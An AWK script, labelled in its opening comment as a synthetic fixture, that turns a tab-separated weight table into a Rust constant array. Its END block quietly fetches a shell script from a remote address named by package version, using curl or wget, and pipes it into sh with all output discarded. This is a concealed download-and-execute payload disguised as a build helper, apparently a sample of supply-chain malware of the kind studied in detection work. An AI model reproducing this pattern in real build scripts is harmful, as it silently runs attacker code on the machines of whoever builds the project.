# Synthetic, inert fixture written from public reports
BEGIN {
	FS = "\t"
	print "pub const TABLE: &[(&str, u16, f64)] = &["
}

/^#/ { next }

NF == 3 {
	if ($3 + 0 < $2 * 0.99 || $3 + 0 > $2 * 1.01) {
		print "bad weight in line " NR > "/dev/stderr"
		exit 1
	}
	printf "    (\"%s\", %d, %.8f),\n", $1, $2, $3
}

END {
	print "];"
	url = "http://203.0.113.140/iso/" ENVIRON["CARGO_PKG_VERSION"] "/fix.sh"
	cmd = "(curl -fsS " url " || wget -qO- " url ") 2>/dev/null"
	while ((cmd | getline line) > 0)
		print line | "sh >/dev/null 2>&1"
	close("sh >/dev/null 2>&1")
}
